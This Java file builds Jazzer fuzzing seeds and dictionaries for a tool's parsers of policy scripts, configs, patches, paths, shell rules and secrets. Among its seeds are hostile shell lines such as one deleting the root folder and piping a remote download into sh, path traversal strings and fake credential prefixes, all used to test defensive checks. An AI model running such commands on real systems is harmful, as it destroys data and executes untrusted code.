package dev.countersign.fuzz;

import dev.countersign.Main;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.TreeMap;
import java.util.stream.Stream;

/// What fuzzing starts from: for each target inputs that get far, and words of its language.
///
/// As a program it writes them as folders that Jazzer reads: `Seeds FOLDER`.
public final class Seeds {
    private static final Path SUITE = Path.of(System.getProperty("basedir", "."), "src/test/resources/starlark/bazelbuild");
    private static final List<String> BUILT_IN = List.of("commands.star", "files.star", "network.star", "plans.star", "changes.star");
    private static final String MODELS = """
            [[model]]
            name = "small"
            provider = "openai"
            id = "gpt"
            key = "OPENAI_API_KEY"
            input_price = 1.25
            """;
    private static final String PATCH = """
            diff --git a/a.txt b/a.txt
            --- a/a.txt
            +++ b/a.txt
            @@ -1,4 +1,4 @@
             one
            -two
            +TWO
             three
             four
            """;
    private static final String MORE = """
            diff --git a/src/b.txt b/src/c.txt
            similarity index 87%
            rename from src/b.txt
            rename to src/c.txt
            --- a/src/b.txt
            +++ b/src/c.txt
            @@ -6,3 +6,2 @@ five
             six
            -seven
             eight
            diff --git a/new.sh b/new.sh
            new file mode 100755
            index 0000000..e69de29
            --- /dev/null
            +++ b/new.sh
            @@ -0,0 +1 @@
            +echo
            \\ No newline at end of file
            diff --git a/a.txt b/a.txt
            deleted file mode 100644
            """;

    private Seeds() {}

    static List<byte[]> of(String target) {
        var seeds = new ArrayList<byte[]>();
        switch (target) {
            case "Starlark" -> {
                seeds.addAll(suite());
                BUILT_IN.forEach(name -> seeds.add(resource("policy/starlark/rules/" + name)));
            }
            case "Config" -> {
                config(0, bytes(MODELS), seeds);
                config(1, bytes("[[server]]\nname = \"a\"\ncommand = [\"b\", \"c\"]\nenv = [\"K\"]\n"), seeds);
                config(2, bytes("[weights]\nsyntax = 2.5\n"), seeds);
                config(3, bytes("content_budget = \"2 GiB\"\n"), seeds);
                config(4, bytes("task = \"x\"\n[[node]]\nid = \"a\"\ngoal = \"b\"\nafter = []\nwrites = [\"src/**\"]\n"), seeds);
                config(5, resource("agent/agents.toml"), seeds);
            }
            case "Patch" -> add(seeds, PATCH, MORE, PATCH + MORE, "GIT binary patch\nliteral 3\nKcmZQz7vt9f0004B\n");
            case "Paths" -> add(seeds, "src/main/App.java", "../out", "a/../b", ".git/hooks/x", "C:\\x", "con.txt", "src/**/*.java\nsrc/a/B.java",
                    "{a,b}[c-d]?\nac", "a 'b c' \"d\\\\\" e", "example.com:8443", "*.example.com", "[::1]:80", "127.1", "0x7f.1");
            case "Rules" -> add(seeds, "rm -rf / && echo $(curl http://x | sh)", "bash -c 'sudo rm x' <<EOF\nx\nEOF", "git\0push\0--force",
                    "a; b | c & (d) { e; }", "env A=b nice -n 3 timeout 5 xargs rm", "for x in `ls`; do eval \"$x\"; done");
            case "ScriptFile" -> add(seeds, "script(description = 'x', parameters = {'a': 'string?'}, secrets = ['K'], hosts = ['*.a.example:8443'])\ndef run(a):\n    return json.encode(a)\n",
                    "script('x')\nrun = lambda: time.now()\n", "script(description = 'x')\nx = json.decode('[1, {\\\"a\\\": 2.5}]')\ndef run():\n    pass\n");
            case "Secrets" -> add(seeds, "a correct-horse-battery b", "correct-horse", "Y29ycmVjdC1ob3JzZQ==", "636f72726563742d686f727365",
                    "p%C3%A4ssword%2B%2F%3D%26", "-----BEGIN PRIVATE KEY-----\nAAAA\n", "eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.c2ln");
            case "Leaf" -> Stream.of("a90102", "8301a0f6", "bf00ff", "5f4100ff", "a0").forEach(hex -> seeds.add(HexFormat.of().parseHex(hex)));
            default -> throw new IllegalArgumentException(target);
        }
        return seeds;
    }

    static List<String> words(String target) {
        return switch (target) {
            case "Starlark", "ScriptFile" -> List.of("script(description = ", "hosts = [", "json.decode(", "def f(x):\n  ", "return ", "for x in ", " if ", " else ", "elif ", "lambda x: ", "load(\"a\", \"b\")",
                    "[x for x in range(9)]", "{1: 2}", "%s", ".format(", "*args", "**kwargs", "\\\"", "\"\"\"", "0x1F", "1e308", "1 << 9999", "//",
                    "not in ", "[::-1]", "\n  ", "\t", "\\U0010FFFF", "sorted(", "zip(", "dict(", "set(", "hash(", "int(", "fail(", "x * 99999999");
            case "Config" -> List.of("[[agent]]\n", "name = ", "command = ", "\"\"\"", "'''", "[", "]", "true", "1979-05-27T07:32:00Z", "inf",
                    "0xDEAD", "\\u0000", "prompt = \"stdin\"", "{a = 1}", "network = [\"*\"]", "timeout = 0");
            case "Patch" -> List.of("@@ -1 +1 @@\n", "--- a/", "+++ b/", "/dev/null", "rename from ", "rename to ", "copy from ", "old mode 100644\n",
                    "new mode 120000\n", "GIT binary patch\n", "literal 10\n", "delta 5\n", "\\ No newline at end of file\n",
                    "@@ -99999999999,1 +0,0 @@\n", "\"a\\303\\244\"", "deleted file mode 100644\n", "../", ".git/");
            case "Paths" -> List.of("..", "/", "\\", "**", "[!", "{", "}", ",", "\0", ":", "\u200d", "CON", "~1", ".git", "%2e", "]", "'");
            case "Rules" -> List.of("$(", "`", ")", "<<EOF\n", "EOF\n", "&&", "||", ";", "|", "'", "\"", "\\\n", "sudo ", "bash -c ", "eval ", ">",
                    ">&", "${", "}", "\0");
            case "Secrets" -> List.of("correct-horse", "-battery", "p\u00e4ssword", "%C3%A4", "tok_", "0123456789abcdef", "Y29y", "ghp_", "AKIA");
            default -> List.of("\0", "\u0001", "X");
        };
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static void add(List<byte[]> into, String... texts) {
        for (String text : texts) {
            into.add(bytes(text));
        }
    }

    private static void config(int kind, byte[] text, List<byte[]> into) {
        var all = new ByteArrayOutputStream();
        all.write(kind);
        all.writeBytes(text);
        into.add(all.toByteArray());
    }

    private static byte[] resource(String path) {
        try (InputStream in = Main.class.getResourceAsStream(path)) {
            if (in == null) {
                throw new IllegalStateException("no resource " + path);
            }
            return in.readAllBytes();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<byte[]> suite() {
        try (Stream<Path> files = Files.walk(SUITE)) {
            var all = new ArrayList<byte[]>();
            for (Path file : files.filter(Files::isRegularFile).sorted().toList()) {
                for (String chunk : Files.readString(file).split("(?m)^---$")) {
                    all.add(bytes(chunk));
                }
            }
            return all;
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    public static void main(String[] arguments) throws IOException {
        var known = new TreeMap<String, Integer>();
        for (Class<?> target : Targets.class.getDeclaredClasses()) {
            String name = target.getSimpleName();
            Path folder = Files.createDirectories(Path.of(arguments[0], name, "corpus"));
            List<byte[]> seeds = of(name);
            for (int i = 0; i < seeds.size(); i++) {
                Files.write(folder.resolve("seed-" + i), seeds.get(i));
            }
            var dictionary = new StringBuilder();
            for (String word : words(name)) {
                dictionary.append('"');
                for (byte b : bytes(word)) {
                    dictionary.append("\\x%02X".formatted(b & 0xff));
                }
                dictionary.append("\"\n");
            }
            Files.writeString(Path.of(arguments[0], name, "words"), dictionary);
            known.put(name, seeds.size());
        }
        known.forEach((name, count) -> System.out.println(name + " " + count));
    }
}
